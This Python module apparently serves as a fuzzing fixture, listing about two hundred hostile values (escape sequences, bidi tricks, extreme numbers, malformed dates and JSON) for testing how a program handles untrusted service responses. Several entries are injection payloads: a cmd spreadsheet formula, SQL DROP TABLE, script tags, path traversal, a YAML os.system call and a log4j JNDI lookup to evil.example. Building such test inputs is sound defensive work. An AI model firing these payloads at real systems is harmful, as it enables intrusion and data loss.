"""Two hundred hostile values, each the JSON text of one value that a service may send.

What belongs here: the values, by what they claim to be. What does not: sending them (``inputs``).
"""

# ruff: noqa: E501 - tables of values

from __future__ import annotations

import json
from typing import Literal, NamedTuple

Claims = Literal["text", "number", "date", "body"]


class Hostile(NamedTuple):
    """One value: its name, what it claims to be, and its JSON text."""

    name: str
    claims: Claims
    served: str


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


_LETTERS = {
    "NUL": "a\0b", "bell": "a\ab", "backspace": "abc\b\b\bxyz", "escape": "a\x1b[31mb",
    "clear screen": "\x1b[2J\x1b[H", "window title": "\x1b]0;owned\x07", "8-bit CSI": "a\x9b31mb",
    "8-bit OSC": "\x9d0;x\x9c", "next line (C1)": "a\x85b", "delete": "a\x7fb",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "DCS": "\x1bP+q\x1b\\",
    "cursor report": "\x1b[6n", "carriage return": "good\rbad", "line feeds": "a\n\n\nb",
    "vertical tab": "a\vb", "form feed": "a\fb", "line separator": "a\u2028b\u2029c",
    "right to left": "a\u202egnp.exe", "isolates": "\u2066a\u2067b\u2068c\u2069",
    "embeddings": "\u202aa\u202bb\u202cc\u202d", "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "K\u200bR\u200c-\u200d1\ufeff", "soft hyphen": "KR\u00ad-1",
    "byte order mark": "\ufeffKR-1", "noncharacters": "\uffff\ufffe\U0001ffff", "tags": "a\U000e0041",
    "private use": "\ue000\U000f0000", "zalgo": "a" + "\u0301" * 500, "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "combining only": "\u0301", "variation selectors": "a" + "\ufe0f" * 100, "blank": "\u3164\u2800",
    "look-alikes": "КR-1 ΚR-2", "ligature": "ﬀ ﷺ", "quotes": "'\"`;--", "backslashes": "\\" * 99,
}  # fmt: skip
_WORDS = {
    "formula": "=cmd|' /C calc'!A0", "plus formula": "+1+1", "minus formula": "-2+3",
    "at formula": "@SUM(1)", "tab formula": "\t=1+1", "wide formula": "＝1+1",
    "SQL": "'; DROP TABLE key_results; --", "SQL comment": "/* */ -- #", "markup": "[red]x[/red]",
    "link markup": "[link=file:///etc/passwd]x[/link]", "emoji markup": ":smile:",
    "html": "<script>alert(1)</script>", "entity": "&lt;&#0;", "template": "{{7*7}} ${7*7} <%= 7 %>",
    "format": "%s%n%x {0.__class__}", "path": "../../../../etc/passwd", "drive": "C:\\con\\nul",
    "address": "javascript:alert(1)", "data address": "data:text/html,<script>", "json": '{"a":[1,2',
    "yaml": "!!python/object/apply:os.system ['id']", "environment": "${PATH} $HOME `id`",
    "log4j": "${jndi:ldap://evil.example/a}", "null word": "null", "NaN word": "NaN",
    "infinity word": "Infinity", "none": "None", "true": "true", "undefined": "undefined",
    "long": "x" * 300_000, "long digits": "9" * 100_000, "many lines": "a\n" * 50_000,
    "many keys": " ".join(f"KR-{n}" for n in range(20_000)), "brackets": "(" * 50_000,
    "regex bait": "a" * 30_000 + "!", "spaces": " " * 100_000, "dashes": "KR" + "-" * 50_000,
    "at signs": "@" * 50_000, "measure bait": "count of " * 5_000, "commas": "," * 50_000,
}  # fmt: skip
_NUMBERS = [
    "1e400", "-1e400", "1e309", "1e308", "-1e308", "5e-324", "1e-400", "-0.0", "-0", "0.1e+1",
    "9007199254740993", "18446744073709551616", "1" + "0" * 400, "9" * 5_000, "-" + "9" * 5_000,
    "0." + "3" * 5_000, "1" + "0" * 308 + ".5", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "01",
    "+1", "1.", ".5", "1e", '"1e400"', '"NaN"', '"∞"', '"१२३"', '"１２３"', '"²"', '"½"', '"1,2,3.4.5"',
    '"1e5000"', '"--5"', '"5-"', '"(5)"', '"5e5e5"', '"0x1F"', '"1 000 000 000 000 000 000 000"',
    '"9' + "9" * 4_000 + '"', '"10%%"', '"%"', '"€"', '"-€-5"', "true", "[1]", '{"number": 1}', "null",
]  # fmt: skip
_DATES = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-13-01",
    "2026-00-10", "2026-W60-1", "2026-366", "20261127", "27.11.2026", "11/27/26", "2026-11-27T25:00:00Z",
    "2026-11-27T23:59:60Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00",
    "2026-11-27T00:00:00+99:99", "2026-11-27T00:00:00.123456789123Z", "2026-11-27T00:00:00Europe/Berlin",
    "1970-01-01T00:00:00Z", "1582-10-10", "2262-04-12T00:00:00Z", "1677-09-20T00:00:00Z", "２０２６-11-27",
    "२०२६-११-२७", "2026-11-27\x1b[31m", "2026\u201111\u201127", "tomorrow", "now", "", " ", "\0", "9" * 400,
    "2026-11-27T00:00:00Z" + "0" * 10_000, "Fri, 31 Feb 2026", "-1", "1e400", "1e18", "253402300800",
    "-62135596801", "99999999999999999999", "NaN", "Infinity", "0", "2026-11-27/2026-11-20",
]  # fmt: skip
_BODIES = {
    "half a pair": '"cut \\ud83d"', "pair the wrong way round": '"\\ude00\\ud83d"',
    "escaped NUL": '"a\\u0000b"', "two of one key": '{"a": 1, "a": 2}', "empty key": '{"": 1}',
    "nested lists": "[" * 400 + "]" * 400, "nested objects": '{"a":' * 400 + "1" + "}" * 400,
    "nested too deeply": "[" * 3_000 + "]" * 3_000, "a list of a list": '[["x"]]', "an object": '{"a": 1}',
    "proto": '{"__proto__": {"x": 1}}', "a list of nulls": "[null, null]", "an empty list": "[]",
    "an empty object": "{}", "false": "false", "many items": "[" + "1," * 20_000 + "1]",
    "many keys": "{" + ",".join(f'"{n}":{n}' for n in range(5_000)) + "}", "unfinished text": '"abc',
    "unfinished list": "[1, 2", "a comma too many": "[1,]", "no value": "", "a comment": "/* 1 */ 1",
    "single quotes": "'a'", "a raw line feed": '"a\nb"', "a raw tab": '"a\tb"', "a raw NUL": '"a\0b"',
    "bad escape": '"\\x41"', "short escape": '"\\u12"', "two values": '1 2', "byte order mark": '\ufeff1',
}  # fmt: skip

VALUES: tuple[Hostile, ...] = (
    *(Hostile(name, "text", _quoted(text)) for name, text in (_LETTERS | _WORDS).items()),
    *(Hostile(text[:24], "number", text) for text in _NUMBERS),
    *(Hostile(repr(text[:30])[1:-1] or "empty", "date", _quoted(text)) for text in _DATES),
    *(Hostile(name, "body", served) for name, served in _BODIES.items()),
)
